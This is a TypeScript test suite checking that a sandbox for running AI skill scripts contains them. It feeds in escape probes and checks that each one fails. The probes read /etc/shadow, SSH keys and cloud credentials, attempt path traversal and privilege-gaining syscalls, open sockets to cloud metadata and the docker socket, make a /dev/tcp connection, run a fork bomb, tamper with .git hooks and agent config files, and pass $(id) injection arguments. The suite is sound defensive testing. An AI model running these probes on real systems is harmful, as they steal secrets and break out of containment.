import { spawnSync } from "node:child_process";
import { once } from "node:events";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:net";
import { dirname, join } from "node:path";
import { setTimeout } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { probeBubblewrap } from "../../packages/runtime/src/execution/index.ts";
import { sample } from "../support/suite.ts";
import { bundleExecution, ExecutionHost, RUNNERS, SECRET } from "./execution-host.ts";

let bundle = "";
beforeAll(async () => {
  bundle = await bundleExecution();
  // Without the sandbox nothing below proves anything: it fails, it is not skipped.
  const probe = await probeBubblewrap();
  if (!probe.ok) throw new Error(`${probe.message}. ${probe.hint ?? ""}`);
});
afterAll(() => rmSync(dirname(dirname(bundle)), { recursive: true, force: true }));

/** Prints what each attempt gave: `done`, or the error's name. */
const ATTEMPTS = `import os, sys, socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, work):
    try:
        value = work()
        print(name, "done", value if isinstance(value, str) else "")
    except BaseException as error:
        print(name, type(error).__name__, getattr(error, "errno", ""))
def call(name, *arguments):
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)
def write(path):
    with open(path, "a") as file: file.write("evil")
`;

const livesWith = (marker: string) =>
  readdirSync("/proc").filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, "latin1").includes(marker);
    } catch {
      return false;
    }
  });

async function expectNoSurvivor(marker: string): Promise<void> {
  await expect.poll(() => livesWith(marker)).toEqual([]);
}

describe.each(sample(RUNNERS, 1))("scripts as $user", (runner) => {
  const newHost = () => new ExecutionHost(bundle, runner);
  const marker = () => `marker-${process.pid}-${Math.random().toString(36).slice(2)}`;

  describe("paths and content", () => {
    it("X-02 refuses every path that leads out, before anything is opened", async () => {
      const host = newHost();
      // A skill that cannot even be read: the path is refused first.
      const skill = { name: "skill", path: join(host.root, "nowhere") };
      const paths = [
        ["../outside/secret.txt", "scripts/../../outside/x.py", "a/../../x.py", "/etc/passwd"],
        ["~/x.py", "%2e%2e%2fx.py", "..%2fx.py", "%252e%252e/x.py", "..\\x.py", "a\\..\\x.py"],
        ["\\\\host\\s", "C:x.py", "C:/x.py", "file:///etc/passwd", "x\u0000.py", "x\n.py"],
        ["\u001b[2J.py", "．．／x.py", "", ".", "./", "//", "scripts//x.py", "CON", "x.py:stream"],
        ["x.py.", "scripts/", "a".repeat(300), `${"a/".repeat(600)}x.py`, "\u202eyp.x"],
      ].flat();
      const receipts = await host.runAll(paths.map((script) => ({ script, skill })));
      for (const [i, receipt] of receipts.entries()) {
        expect(receipt, paths[i]).toMatchObject({ ok: false, exitCode: null, command: [] });
        expect(receipt.failure?.code, paths[i]).toMatch(/^script-(?:outside|invalid)$/);
      }
    });

    it("X-02 runs only files below scripts", async () => {
      const host = newHost();
      host.write({ "skill/run.py": "print(1)", "skill/scripts/a/run.py": "print(2)" });
      for (const script of ["run.py", "SKILL.md", "a", "scripts/a", "scripts"]) {
        expect((await host.run(script)).failure?.code).toBe("script-missing");
      }
      expect(await host.run("a/run.py")).toMatchObject({ ok: true, stdout: "2\n" });
      expect(await host.run("scripts/a/run.py")).toMatchObject({ ok: true, stdout: "2\n" });
    });

    it("X-02 refuses a skill with links", async () => {
      const host = newHost();
      host.write({ "skill/scripts/ok.py": "print(1)" });
      symlinkSync("../../outside/secret.txt", join(host.skill, "scripts/leak.py"));
      expect((await host.run("ok.py")).failure?.code).toBe("skill-unreadable");
      expect((await host.run("leak.py")).failure?.code).toBe("skill-unreadable");
    });

    it("X-02 runs nothing but the content that was approved", async () => {
      const host = newHost();
      host.write({ "skill/scripts/a.py": "print('approved')" });
      const skill = { name: "skill", path: host.skill };
      const { digest } = await host.run("a.py");
      expect(await host.run("a.py", { skill: { ...skill, digest } })).toMatchObject({ ok: true });
      host.write({ "skill/references/other.md": "changed" });
      const receipt = await host.run("a.py", { skill: { ...skill, digest } });
      expect(receipt).toMatchObject({ ok: false, command: [], stdout: "" });
      expect(receipt.failure?.code).toBe("digest-mismatch");
    });

    it("X-02 a swap while the script runs has no effect on it", async () => {
      const host = newHost();
      host.write({
        "skill/scripts/a.py": `import time
while open("data.txt").read() != "swapped": time.sleep(0.01)
import helper`,
        "skill/scripts/helper.py": "print('approved')",
      });
      const mark = marker();
      const running = host.run("a.py", { args: [mark] });
      while (livesWith(mark).length === 0) await setTimeout(5);
      writeFileSync(join(host.root, "evil.py"), "print('evil')");
      renameSync(join(host.root, "evil.py"), join(host.skill, "scripts/helper.py"));
      writeFileSync(join(host.work, "data.txt"), "swapped");
      expect(await running).toMatchObject({ ok: true, stdout: "approved\n" });
    });
  });

  describe("what a script can see", () => {
    it("X-05 no secret of the environment is in reach", async () => {
      const host = newHost();
      const receipt = await host.python(
        `${ATTEMPTS}import glob
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ"):
    attempt(path, lambda: open(path).read())
attempt("ps", lambda: os.popen("ps axe 2>/dev/null; cat /proc/1/cmdline").read())`,
      );
      expect(receipt.ok).toBe(true);
      expect(receipt.stdout).toContain("/proc/1/environ");
      expect(JSON.stringify(receipt)).not.toContain(SECRET);
    });

    it("X-06 no file outside is in reach, and no secret file inside", async () => {
      const host = newHost();
      const paths = [
        join(host.home, ".ssh/id_rsa"),
        join(host.home, ".aws/credentials"),
        join(host.root, "outside/secret.txt"),
        join(host.work, ".env"),
        "../outside/secret.txt",
        "/etc/shadow",
        "/root/.bashrc",
        "/var/log/dpkg.log",
        "/proc/1/root/etc/shadow",
        "/etc/ssl/private/ssl-cert-snakeoil.key",
        "/sys/kernel/notes",
        "/proc/kcore",
        join(host.skill, "SKILL.md"),
      ];
      const receipt = await host.python(
        `${ATTEMPTS}for path in ${JSON.stringify(paths)}: attempt(path, lambda: open(path, errors="replace").read())
print(sorted(os.listdir("/")), os.listdir("/home") if os.path.exists("/home") else "no home")
print(open("data.txt").read())`,
      );
      expect(receipt.ok).toBe(true);
      expect(receipt.stdout).not.toContain(SECRET);
      const read = receipt.stdout.split("\n").filter((line) => / done \S/.test(line));
      expect(read).toEqual([]);
      expect(receipt.stdout).toContain("data\n");
      for (const name of ["'root'", "'var'", "'sys'", "'home'"]) {
        expect(receipt.stdout).not.toContain(name);
      }
    });

    it("X-06 F6: no secret file is in reach by another name, case, depth or link", async () => {
      const host = newHost();
      const names = ["server.key", ".envrc", ".pgpass", "id_ed25519_sk", ".ENV", "prod.env"];
      const nested = ["packages/api/.env.local", "deploy/keys/host.pem", "home/.aws/credentials"];
      host.write({
        ...Object.fromEntries([...names, ...nested].map((name) => [`work/${name}`, SECRET])),
        "work/values/today.txt": SECRET,
        "work/notes.txt": "notes\n",
      });
      symlinkSync(".env", join(host.work, "settings.txt"));
      symlinkSync("../.ENV", join(host.work, "values/link"));
      symlinkSync("values/today.txt", join(host.work, ".env.production"));
      host.own();
      const receipt = await host.python(
        `import os
found = 0
for folder, _, files in os.walk("."):
    for name in files:
        path = os.path.join(folder, name)
        print(path, open(path).read())
        found += 1
print(found)`,
      );
      expect(receipt.ok).toBe(true);
      expect(receipt.stdout).toContain("./notes.txt notes\n");
      expect(receipt.stdout).not.toContain(SECRET);
      expect(receipt.unenforced).not.toContain("secretFiles");
    });

    it("X-06 no descriptor leads out", async () => {
      const host = newHost();
      const receipt = await host.python(
        `import os
for process in ("self", "1"):
    try:
        for name in os.listdir(f"/proc/{process}/fd"):
            try: print(process, name, os.readlink(f"/proc/{process}/fd/{name}"))
            except OSError: pass
    except OSError as error: print(process, "refused")
`,
      );
      expect(receipt.ok).toBe(true);
      const targets = receipt.stdout.split("\n").filter((line) => line.startsWith("self "));
      const foreign = targets.filter(
        (line) => !/\/dev\/null$|\/pipe-\d+$|\/proc\/\d+\/fd$|pipe:|\(deleted\)$/.test(line),
      );
      expect(foreign).toEqual([]);
      expect(receipt.stdout).not.toContain("251 pipe:");
    });

    it("X-06 refuses working directories that hold more than a project", async () => {
      const host = newHost();
      host.write({ "skill/scripts/a.py": "print(1)" });
      for (const cwd of [
        "/",
        "/usr",
        "/etc",
        "/tmp",
        "/proc/self",
        "/home",
        host.home,
        "work",
        "/x",
      ]) {
        const receipt = await host.run("a.py", { cwd });
        expect(receipt.failure?.code, cwd).toBe("working-directory-refused");
      }
    });
  });

  describe("what a script can change", () => {
    it("X-06 writes nowhere unless allowed", async () => {
      const host = newHost();
      const paths = [
        "data.txt",
        "new.txt",
        ".git",
        "../outside/secret.txt",
        "/skill/SKILL.md",
        "/new",
        "/usr/bin/x",
        "/etc/passwd",
        "/dev/x",
        "/home/x",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sysrq-trigger",
        join(host.skill, "scripts/x.py"),
      ];
      const receipt = await host.python(
        `${ATTEMPTS}for path in ${JSON.stringify(paths)}: attempt(path, lambda: write(path))
for path in ("/tmp/x", os.environ["HOME"] + "/x", "/dev/shm/x"): write(path)`,
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(receipt.stdout.split("\n").filter((line) => line.includes(" done"))).toEqual([]);
      expect(readdirSync(host.work).sort()).toEqual([".env", "data.txt"]);
      expect(readFileSync(join(host.root, "outside/secret.txt"), "utf8")).toBe(SECRET);
      expect(readFileSync(join(host.work, "data.txt"), "utf8")).toBe("data\n");
    });

    it("X-06 writes what is allowed and no control file in it", async () => {
      const host = newHost();
      host.write({ "work/.git/config": "[core]\n", "work/.vscode/tasks.json": "{}" });
      mkdirSync(join(host.work, ".git/hooks"));
      host.own();
      const paths = [
        ".git/config",
        ".git/hooks/pre-commit",
        ".agent/config.json",
        ".vscode/tasks.json",
        ".agents/x",
        ".claude/settings.json",
      ];
      const receipt = await host.python(
        `${ATTEMPTS}import shutil
for path in ${JSON.stringify(paths)}:
    attempt(path, lambda: (os.makedirs(os.path.dirname(path), exist_ok=True), write(path)))
for name in (".git", ".agent"):
    attempt("move " + name, lambda: os.rename(name, name + "-old"))
    attempt("remove " + name, lambda: shutil.rmtree(name))
    attempt("unmount " + name, lambda: call("umount2", os.path.abspath(name).encode(), 2))
write("result.txt"); os.replace("result.txt", "final.txt"); os.remove("data.txt")`,
        { writable: ["."] },
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(receipt.stdout).not.toMatch(/unmount .* done/);
      const refused = receipt.changes?.changes.filter((change) => change.refused !== undefined);
      const names = refused?.map(({ path }) => path);
      expect(names).toEqual(expect.arrayContaining([".git", ".git/config", ".vscode/tasks.json"]));
      // What was the script's own `.agent` is a plain folder by this name.
      expect(readdirSync(host.work).sort()).toEqual([
        ".agent-old",
        ".env",
        ".git",
        ".vscode",
        "final.txt",
      ]);
      expect(readFileSync(join(host.work, ".git/config"), "utf8")).toBe("[core]\n");
      expect(readdirSync(join(host.work, ".git/hooks"))).toEqual([]);
    });

    it("X-06 keeps no control file that a script made, and none that it replaced", async () => {
      const host = newHost();
      symlinkSync("AGENTS.md", join(host.work, "CLAUDE.md"));
      const receipt = await host.python(
        `open(".mcp.json", "w").write("evil"); open("HEAD", "w").close()
import os
os.remove("CLAUDE.md"); open("CLAUDE.md", "w").write("evil")`,
        { writable: ["."] },
      );
      expect(receipt).toMatchObject({ ok: true });
      expect(existsSync(join(host.work, ".mcp.json"))).toBe(false);
      expect(readlinkSync(join(host.work, "CLAUDE.md"))).toBe("AGENTS.md");
      expect(readdirSync(host.work).sort()).toEqual([".env", "CLAUDE.md", "HEAD", "data.txt"]);
    });

    it("X-06 refuses writable places outside, behind links, and control files", async () => {
      const host = newHost();
      host.write({ "skill/scripts/a.py": "print(1)", "work/.git/config": "", "work/out/x": "" });
      symlinkSync("../outside", join(host.work, "link"));
      const places = [
        "..",
        "../outside",
        "/etc",
        "link",
        ".git",
        ".GIT",
        ".git/config",
        "",
        "nowhere",
      ];
      for (const place of places) {
        const receipt = await host.run("a.py", { writable: [place] });
        expect(receipt.failure?.code, place).toBe("writable-refused");
      }
      const receipt = await host.python("open('out/y', 'w').close(); open('z', 'w').close()", {
        writable: ["out"],
      });
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(receipt.changes?.applied?.applied.map(({ path }) => path)).toEqual(["out/y"]);
      expect(readdirSync(join(host.work, "out")).sort()).toEqual(["x", "y"]);
      expect(existsSync(join(host.work, "z"))).toBe(false);
    });

    it("X-06 gains no privilege", async () => {
      const host = newHost();
      const receipt = await host.python(
        `${ATTEMPTS}
for line in open("/proc/self/status"):
    if line.startswith(("CapEff", "CapBnd", "CapPrm", "NoNewPrivs")): print(line.strip())
attempt("remount", lambda: call("mount", b"none", b"/usr", None, 32 | 4096, None))
attempt("remount root", lambda: call("mount", b"none", b"/", None, 32 | 4096, None))
attempt("mount", lambda: call("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None))
attempt("unmount", lambda: call("umount2", b"/proc/sys", 2))
attempt("mknod", lambda: os.mknod("/tmp/device", 0o60600, os.makedev(254, 0)))
attempt("userns", lambda: call("unshare", 0x10000000))
attempt("mountns", lambda: call("unshare", 0x00020000))
attempt("clone userns", lambda: call("syscall", 56, 0x10000000 | 17, 0, 0, 0, 0))
attempt("clone3", lambda: call("syscall", 435, ctypes.create_string_buffer(88), 88))
attempt("nested", lambda: os.system("unshare -U true 2>/dev/null") and 1/0)
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("ptrace", lambda: call("ptrace", 16, 1, 0, 0))
attempt("setuid", lambda: os.setuid(1))
attempt("io_uring", lambda: call("syscall", 425, 8, ctypes.create_string_buffer(200)))
attempt("keyctl", lambda: call("syscall", 250, 0, -3, 1))
attempt("bpf", lambda: call("syscall", 321, 0, None, 0))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
attempt("kill", lambda: os.kill(${process.pid}, 0))
attempt("core_pattern", lambda: write("/proc/sys/kernel/core_pattern"))
attempt("hostname", lambda: call("sethostname", b"evil", 4))`,
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      const lines = receipt.stdout.split("\n");
      for (const set of ["CapEff", "CapBnd", "CapPrm"]) {
        expect(receipt.stdout).toContain(`${set}:\t0000000000000000`);
      }
      expect(receipt.stdout).toContain("NoNewPrivs:\t1");
      expect(lines.filter((line) => line.includes(" done"))).toEqual([]);
    });

    it("X-06 leaves no file that lends its owner's rights", async () => {
      const host = newHost();
      mkdirSync(join(host.work, "out"));
      host.own();
      const receipt = await host.python(
        `${ATTEMPTS}
import subprocess
os.umask(0); os.chdir("out")
open("file", "w").close(); os.mkdir("folder"); held = os.open(".", os.O_RDONLY)
file = os.open("file", os.O_RDWR)
def program(*words): subprocess.run(words, check=True, stderr=subprocess.DEVNULL)
for bits in (0o4755, 0o2755, 0o6755):
    attempt("chmod", lambda: os.chmod("file", bits))
    attempt("chmod folder", lambda: os.chmod("folder", bits))
    attempt("fchmod", lambda: os.fchmod(file, bits))
    attempt("fchmodat", lambda: os.chmod("file", bits, dir_fd=held))
    attempt("fchmodat2", lambda: call("syscall", 452, held, b"file", bits, 0))
    attempt("wide", lambda: call("syscall", 452, held, b"file", ctypes.c_long(1 << 40 | bits), 0))
    attempt("open", lambda: os.open("open", os.O_CREAT | os.O_WRONLY, bits))
    attempt("openat", lambda: os.open("openat", os.O_CREAT | os.O_WRONLY, bits, dir_fd=held))
    attempt("temporary", lambda: os.open(".", os.O_TMPFILE | os.O_WRONLY, bits))
    attempt("creat", lambda: call("creat", b"creat", bits))
    attempt("mknod", lambda: os.mknod("node", 0o100000 | bits))
    attempt("mkdir", lambda: os.mkdir("made", bits))
    attempt("install", lambda: program("install", "-m", oct(bits)[2:], "/bin/true", "installed"))
    attempt("copy", lambda: program("sh", "-c", "cp /bin/true copy && chmod %o copy" % bits))
if os.uname().machine == "x86_64":
    for number, words in ((90, (b"file", 0o6755)), (85, (b"c", 0o6755)), (2, (b"o", 0o101, 0o6755))):
        attempt("raw %d" % number, lambda: call("syscall", number, *words))
    attempt("other convention", lambda: call("syscall", 0x40000000 | 90, b"file", 0o6755))
class How(ctypes.Structure): _fields_ = [(n, ctypes.c_uint64) for n in ("flags", "mode", "resolve")]
how = How(0o101, 0o6755, 0)
attempt("openat2", lambda: call("syscall", 437, held, b"how", ctypes.byref(how), 24))`,
        { writable: ["."] },
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      const lines = receipt.stdout.trim().split("\n");
      expect(lines.length).toBeGreaterThan(40);
      expect(lines.filter((line) => line.includes(" done"))).toEqual([]);
      const refused = / (?:PermissionError 1|CalledProcessError ?|OSError 38)$/;
      expect(lines.filter((line) => !refused.test(line))).toEqual([]);
      expect(lines).toContain("openat2 OSError 38");
      const out = join(host.work, "out");
      const lending = readdirSync(out).filter((name) => statSync(join(out, name)).mode & 0o6000);
      expect(lending).toEqual([]);
    });

    it("X-06 ordinary work with files and modes goes on", async () => {
      const host = newHost();
      const receipt = await host.bash(
        `set -e
mkdir -m 1777 sticky; mkdir -p a/b; echo text > a/b/file; chmod 750 a/b/file; chmod -R u+x a
cp -a a copy; install -m 755 /bin/true tool; ./tool; mv tool moved; ln -s a link; touch new
tar cf a.tar a; mkdir from; tar xpf a.tar -C from; cmp from/a/b/file a/b/file
python3 - <<'END'
import os, shutil, tempfile
os.makedirs("p/q"); shutil.copytree("a", "p/a"); tempfile.TemporaryFile().write(b"x")
os.chmod("p/q", 0o700); shutil.rmtree("p")
END
if command -v git > /dev/null; then
  git init -q repository; cd repository; echo 1 > x; git add x
  git -c user.name=a -c user.email=a@example.org commit -q -m 1; git status --short; cd ..
fi
echo done`,
        { cwd: "fresh" },
      );
      expect(receipt.stderr).toBe("");
      expect(receipt).toMatchObject({ ok: true, stdout: "done\n" });
      host.write({
        "skill/scripts/a.mjs": `import fs from "node:fs";
fs.mkdirSync("a/b", { recursive: true }); fs.writeFileSync("a/b/c", "x", { mode: 0o755 });
fs.cpSync("a", "d", { recursive: true }); fs.chmodSync("d", 0o700); fs.rmSync("a", { recursive: true });
console.log(fs.readFileSync("d/b/c", "utf8"));`,
      });
      expect(await host.run("a.mjs", { cwd: "fresh" })).toMatchObject({ ok: true, stdout: "x\n" });
    });
  });

  describe("network", () => {
    it("X-06 reaches nothing", async () => {
      const host = newHost();
      const server = createServer().listen(0, "127.0.0.1");
      const socketFile = join(host.root, "outside/service.sock");
      const local = createServer().listen(socketFile);
      const abstract = createServer().listen("\0skillwright-test-abstract");
      let connections = 0;
      for (const listening of [server, local, abstract]) {
        listening.on("connection", () => connections++);
        onTestFinished(() => void listening.close());
      }
      await Promise.all(
        [server, local, abstract].filter((s) => !s.listening).map((s) => once(s, "listening")),
      );
      const address = server.address();
      const port = typeof address === "object" ? (address?.port ?? 0) : 0;
      const receipt = await host.python(
        `${ATTEMPTS}
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(2); s.connect(address)
attempt("tcp", lambda: connect(socket.AF_INET, ("127.0.0.1", ${port})))
attempt("metadata", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
attempt("public", lambda: connect(socket.AF_INET, ("1.1.1.1", 443)))
attempt("ipv6", lambda: connect(socket.AF_INET6, ("2606:4700:4700::1111", 443)))
attempt("udp", lambda: connect(socket.AF_INET, ("1.1.1.1", 53), socket.SOCK_DGRAM))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0))
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
attempt("unix", lambda: connect(socket.AF_UNIX, ${JSON.stringify(socketFile)}))
attempt("docker", lambda: connect(socket.AF_UNIX, "/var/run/docker.sock"))
attempt("abstract", lambda: connect(socket.AF_UNIX, "\\0skillwright-test-abstract"))
attempt("bash", lambda: os.system("bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}' 2>/dev/null") and 1/0)`,
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(receipt.stdout.split("\n").filter((line) => line.includes(" done"))).toEqual([]);
      expect(connections).toBe(0);
    });

    it("X-06 a domain that would open everything is refused, and nothing runs", async () => {
      const host = newHost();
      for (const domain of ["*", "*.com", "https://example.com", "evil.com?.example.com"]) {
        const receipt = await host.python("print(1)", { network: { domains: [domain] } });
        expect(receipt).toMatchObject({ ok: false, command: [] });
        expect(receipt.failure?.code).toBe("network-invalid");
      }
    });
  });

  describe("limits and ends", () => {
    it("X-05 a timeout ends a script that ignores signals, and all it started", async () => {
      const host = newHost();
      const mark = marker();
      const receipt = await host.python(
        `import signal, subprocess, sys, time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)
sleep = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(300)"
subprocess.Popen([sys.executable, "-c", sleep, "${mark}"])
subprocess.Popen([sys.executable, "-c", sleep, "${mark}"], start_new_session=True)
print("started"); time.sleep(300)`,
        { limits: { timeoutMs: 1000 } },
      );
      expect(receipt).toMatchObject({ ok: false, timedOut: true, stdout: "started\n" });
      expect(receipt.failure?.code).toBe("timed-out");
      expect(receipt.durationMs).toBeLessThan(100_000);
      await expectNoSurvivor(mark);
    });

    it.each(["bubblewrap", "process"] as const)(
      "X-05 %s: nothing outlives a script, whoever holds its output",
      async (sandbox) => {
        const host = newHost();
        const mark = marker();
        const receipt = await host.python(
          `import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "${mark}"])
    os._exit(0)
os.wait(); time.sleep(0.2); print("done")`,
          {},
          { sandbox },
        );
        expect(receipt).toMatchObject({ ok: true, stdout: "done\n", sandbox });
        expect(receipt.durationMs).toBeLessThan(100_000);
        await expectNoSurvivor(mark);
      },
    );

    it("X-05 a cancellation ends all", async () => {
      const host = newHost();
      const mark = marker();
      const receipt = await host.python(
        `import subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "${mark}"], start_new_session=True)
time.sleep(300)`,
        {},
        { abortAfter: 1000 },
      );
      expect(receipt).toMatchObject({ ok: false, canceled: true, timedOut: false });
      await expectNoSurvivor(mark);
    });

    it("X-05 when this process is killed, no script survives and the next start tidies up", async () => {
      const host = newHost();
      const mark = marker();
      host.write({
        "skill/scripts/long.py": `import subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "${mark}"], start_new_session=True)
open("started", "w").close(); time.sleep(300)`,
      });
      const options = { temporaryDirectory: join(host.root, "runs") };
      mkdirSync(options.temporaryDirectory);
      host.own();
      const child = host.start([{ script: "long.py", writable: ["."] }], { options });
      while (livesWith(mark).length === 0) await setTimeout(10);
      child.kill("SIGKILL");
      await once(child, "exit");
      await expectNoSurvivor(mark);
      expect(readdirSync(options.temporaryDirectory)).toHaveLength(1);
      const next = await host.python("print('next')", {}, { options });
      expect(next).toMatchObject({ ok: true });
      expect(readdirSync(options.temporaryDirectory)).toEqual([]);
      expect(readdirSync(host.work).sort()).toEqual([".env", "data.txt"]);
    });

    it("X-05 a fork bomb stops at the limit", async () => {
      const host = newHost();
      const receipt = await host.python(
        `import os, time
count = 0
try:
    for _ in range(400):
        if os.fork() == 0: time.sleep(30); os._exit(0)
        count += 1
except OSError as error: print(error.errno, count)
else: print("no limit", count)`,
        { limits: { processes: 40 } },
      );
      expect(receipt.unenforced).toEqual(["sharedMemory"]);
      expect(receipt.stdout).toMatch(/^11 (?:3\d|40)\n$/);
    });

    it("X-05 memory, processor time, files and descriptors are limited", async () => {
      const host = newHost();
      const memory = await host.python("x = bytearray(400_000_000); print('got it')", {
        limits: { memoryBytes: 200_000_000 },
      });
      expect(memory.stderr).toContain("MemoryError");
      const processor = await host.python("while True: pass", { limits: { cpuSeconds: 1 } });
      expect(processor).toMatchObject({ ok: false, signal: "SIGXCPU", timedOut: false });
      const ignoring = await host.python(
        "import signal; signal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True: pass",
        { limits: { cpuSeconds: 1 } },
      );
      expect(ignoring).toMatchObject({ ok: false, signal: "SIGKILL", timedOut: false });
      const file = await host.python(
        "open('/tmp/x', 'wb').write(bytes(3_000_000)); print('written')",
        { limits: { fileBytes: 1_000_000 } },
      );
      expect(file.ok).toBe(false);
      expect(file.stdout).toBe("");
      const files = await host.python(
        `held = []
try:
    while True: held.append(open("/dev/null"))
except OSError as error: print(error.errno, len(held) < 64)`,
        { limits: { openFiles: 64 } },
      );
      expect(files.stdout).toBe("24 True\n");
    });

    it("X-05 says that shared memory has no limit", async () => {
      const host = newHost();
      const shared = "import mmap; m = mmap.mmap(-1, 200 << 20); m.write(bytes(1 << 20)); print(1)";
      const limits = { memoryBytes: 128 << 20 };
      for (const sandbox of ["bubblewrap", "process"] as const) {
        const receipt = await host.python(shared, { limits }, { sandbox });
        // Once it is limited, it must no longer be named.
        expect(receipt.unenforced.includes("sharedMemory")).toBe(receipt.ok);
        expect(receipt.unenforced).not.toContain("memoryBytes");
      }
    });

    it("X-05 what can be filled is small", async () => {
      const host = newHost();
      const receipt = await host.python(
        `import os
for folder in ("/tmp", "/dev/shm", os.getcwd()):
    total = 0
    try:
        for i in range(400):
            total += open(f"{folder}/{i}", "wb").write(bytes(1_000_000))
    except OSError as error: print(folder.startswith("/tmp/"), error.errno, total < 80_000_000)
    else: print("filled", folder, total)`,
        { cwd: "fresh" },
      );
      expect(receipt.stdout).toBe("False 28 True\nFalse 28 True\nFalse 28 True\n");
    });

    it("X-05 a flood of output is cut, and the script goes on", async () => {
      const host = newHost();
      const receipt = await host.python(
        `import os
os.write(1, b"first\\n")
for _ in range(3000): os.write(1, b"x" * 65536)
os.write(1, b"\\nlast\\n")`,
        { limits: { outputBytes: 2000 } },
      );
      expect(receipt).toMatchObject({ ok: true, truncated: true });
      expect(receipt.stdout).toMatch(/^first\nx+\n\[… \d+ bytes left out …\]\nx+\nlast\n$/);
      expect(receipt.stdout.length).toBeLessThan(2100);
    });

    it("X-05 input is closed unless it is given", async () => {
      const host = newHost();
      const echo = "import sys; print(repr(sys.stdin.read()))";
      expect(await host.python(echo)).toMatchObject({ ok: true, stdout: "''\n" });
      const given = await host.python(echo, { stdin: "hello" });
      expect(given).toMatchObject({ ok: true, stdout: "'hello'\n" });
      expect(await host.python("print(1)", { stdin: "x".repeat(1_000_000) })).toMatchObject({
        ok: true,
      });
    });

    it("X-05 output cannot steer a terminal", async () => {
      const host = newHost();
      const receipt = await host.python(
        `import os
os.write(1, b"\\x1b[31mred\\x1b[0m \\x1b]0;title\\x07 \\x1b[2J \\xff\\xfe \\xc2\\x9b31m \\r\\n ok\\roverwritten\\n")`,
      );
      expect(receipt.stdout).toBe("red ␛]0;title␇ ␛[2J \uFFFD\uFFFD \uFFFD31m \n ok␍overwritten\n");
      const inject = await host.python(
        `import fcntl, termios
for name in ("/dev/tty", "/dev/console"):
    try: fcntl.ioctl(open(name, "w"), termios.TIOCSTI, b"x"); print("injected")
    except OSError as error: print("refused")`,
      );
      expect(inject.stdout).toBe("refused\nrefused\n");
    });
  });

  describe("commands", () => {
    it("X-06 X-10 a command sees, changes and reaches no more than a script", async () => {
      const host = newHost();
      host.write({
        "work/sub/.env": SECRET,
        "work/skills/pdf/scripts/a.py": SECRET,
        "work/skills/pdf/SKILL.md": "",
      });
      const outside = [join(host.root, "outside/secret.txt"), join(host.home, ".ssh/id_rsa")];
      const reads = [...outside, "/etc/shadow", ".env", "../.env", "../skills/pdf/scripts/a.py"];
      const writes = [...outside, "/usr/bin/x", "/etc/x"];
      const receipt = await host.command(
        `${ATTEMPTS}for path in ${JSON.stringify(reads)}: attempt(path, lambda: open(path).read())
for path in ${JSON.stringify(writes)}: attempt(path, lambda: write(path))
print(open("../data.txt").read(), os.path.exists("/skill"))
for path in ("new.txt", "../new.txt", "../data.txt"):
    try: write(path)
    except OSError: pass
attempt("connect", lambda: socket.create_connection(("1.1.1.1", 53), 1))
attempt("unshare", lambda: call("unshare", 0x10000000))
print(dict(os.environ))`,
        {
          cwd: join(host.work, "sub"),
          root: host.work,
          hidden: [join(host.work, "skills/pdf/scripts")],
        },
      );
      expect(receipt.ok, receipt.stderr).toBe(true);
      expect(JSON.stringify(receipt)).not.toContain(SECRET);
      const done = receipt.stdout.split("\n").filter((line) => line.includes(" done"));
      // A covered file is there, and empty.
      expect(done.map((line) => line.trim())).toEqual([".env done", "../.env done"]);
      expect(receipt.stdout).toContain("data\n False");
      expect(readdirSync(host.work).sort()).toEqual([".env", "data.txt", "skills", "sub"]);
      expect(readdirSync(join(host.work, "sub"))).toEqual([".env"]);
      expect(readFileSync(join(host.work, "data.txt"), "utf8")).toBe("data\n");
    });

    it("X-05 X-10 no process of a command outlives its time", async () => {
      const host = newHost();
      const name = marker();
      const receipt = await host.command(
        `import subprocess, time
subprocess.Popen(["setsid", "bash", "-c", "trap '' TERM; sleep 300 # ${name}"])
time.sleep(300)`,
        { limits: { timeoutMs: 1000 } },
      );
      expect(receipt).toMatchObject({ ok: false, timedOut: true, failure: { code: "timed-out" } });
      await expectNoSurvivor(name);
    });
  });

  describe("arguments, environment, interpreters", () => {
    it("X-03 arguments arrive as they are", async () => {
      const host = newHost();
      const args = [
        "-c",
        "--",
        "-x",
        "$(id)",
        "`id`",
        "a\nb",
        "*",
        "@/etc/passwd",
        "",
        "a b",
        "'\"\\",
        "ü",
      ];
      const python = await host.python("import sys, json; print(json.dumps(sys.argv[1:]))", {
        args,
      });
      expect(JSON.parse(python.stdout)).toEqual(args);
      const bash = await host.bash(
